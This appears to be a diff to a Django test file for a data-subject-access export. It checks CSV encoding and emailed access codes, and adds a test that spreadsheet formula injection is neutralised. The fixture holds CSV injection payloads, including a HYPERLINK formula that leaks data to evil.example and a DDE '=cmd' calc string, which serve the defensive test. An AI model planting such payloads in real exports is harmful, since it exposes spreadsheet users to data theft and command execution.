@@ -89,16 +89,53 @@ def test_the_manifest_checksums_and_counts_match_the_files_which_open_as_json_an
         crm = json.loads(zf.read("crm/crm.json"))
         assert crm["counts"] == {"contact": 1, "notes": 2}
         assert len(crm["records"]) == 3
-        notes = list(csv.DictReader(io.StringIO(zf.read("crm/notes.csv").decode())))
+        notes = list(csv.DictReader(io.StringIO(zf.read("crm/notes.csv").decode("utf-8-sig"))))
         assert [row["body"] for row in notes] == ['Met at, "the" fair\nsecond line', "Called"]
         assert notes[1]["extra"] == "1"
-        contact = list(csv.DictReader(io.StringIO(zf.read("crm/contact.csv").decode())))
+        contact = list(csv.DictReader(io.StringIO(zf.read("crm/contact.csv").decode("utf-8-sig"))))
         assert json.loads(contact[0]["properties"]) == {"phone": "+44"}
         posts = next(e for e in manifest["files"] if e["file"] == "forum/posts.csv")
         assert posts["records"] == 250
-        assert len(list(csv.DictReader(io.StringIO(zf.read("forum/posts.csv").decode())))) == 250
+        posts_csv = zf.read("forum/posts.csv").decode("utf-8-sig")
+        assert len(list(csv.DictReader(io.StringIO(posts_csv)))) == 250
         assert "Art. 15" in zf.read("README.txt").decode()
         json.loads(zf.read("art15-information.json"))
+
+
+HOSTILE = {
+    "website": '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+    "score": "+1+1",
+    "notes": "@SUM(1)",
+    "balance": "-2+3",
+    "indented": "\tcmd",
+    "returned": "\r=1",
+    "phone": "+44 20 7946 0000",
+    "name": "Zoë Ünal",
+}
+
+
+def test_every_csv_cell_of_the_zip_is_neutralised_and_the_json_keeps_the_raw_values(
+    media: Path,
+) -> None:
+    case = CaseFactory(status=CaseStatus.COMPLETED)
+    export_run(case, media, "crm", [("contact", HOSTILE), ("contact", {"=cmd|' /C calc'!A0": "x"})])
+    target = media / "export.zip"
+    build_export_zip(case, target)
+
+    with zipfile.ZipFile(target) as zf:
+        raw = zf.read("crm/contact.csv")
+        assert raw.startswith("\ufeff".encode())  # UTF-8 BOM: spreadsheets read the accents
+        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+        cells = [cell for row in rows for cell in row if cell]
+        assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], cells
+        header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
+        assert "'=cmd|' /C calc'!A0" in header
+        assert first["website"] == "'" + HOSTILE["website"]
+        assert first["balance"] == "'-2+3" and first["indented"] == "'\tcmd"
+        assert first["phone"] == "'+44 20 7946 0000" and first["name"] == "Zoë Ünal"
+        assert raw.decode("utf-8-sig").startswith('"')  # every cell quoted
+        records = json.loads(zf.read("crm/crm.json"))["records"]
+        assert records[0]["record"] == HOSTILE
 
 
 def test_a_portability_export_holds_only_what_the_person_provided(media: Path) -> None:
@@ -159,7 +196,7 @@ def make_link(case, media: Path, *, kind: str = ArtifactKind.EXPORT_ZIP, content
 def open_with_code(client: Client, token: str, captured) -> None:
     with captured(execute=True):
         client.post(reverse("dsar:download", args=[token]), {"send_code": "1"})
-    code = re.search(r"(\d{6})$", mail.outbox[-1].subject).group(1)
+    code = re.search(r"^(\d{6})$", mail.outbox[-1].body, re.MULTILINE).group(1)
     response = client.post(reverse("dsar:download", args=[token]), {"code": code})
     assert response.status_code == 302
 
@@ -196,7 +233,7 @@ def test_a_code_survives_only_a_few_wrong_guesses(
     token = make_link(case, media)
     with django_capture_on_commit_callbacks(execute=True):
         client.post(reverse("dsar:download", args=[token]), {"send_code": "1"})
-    code = re.search(r"(\d{6})$", mail.outbox[-1].subject).group(1)
+    code = re.search(r"^(\d{6})$", mail.outbox[-1].body, re.MULTILINE).group(1)
     wrong = "111111" if code != "111111" else "222222"
     for _ in range(downloads.MAX_CODE_ATTEMPTS):
         client.post(reverse("dsar:download", args=[token]), {"code": wrong})
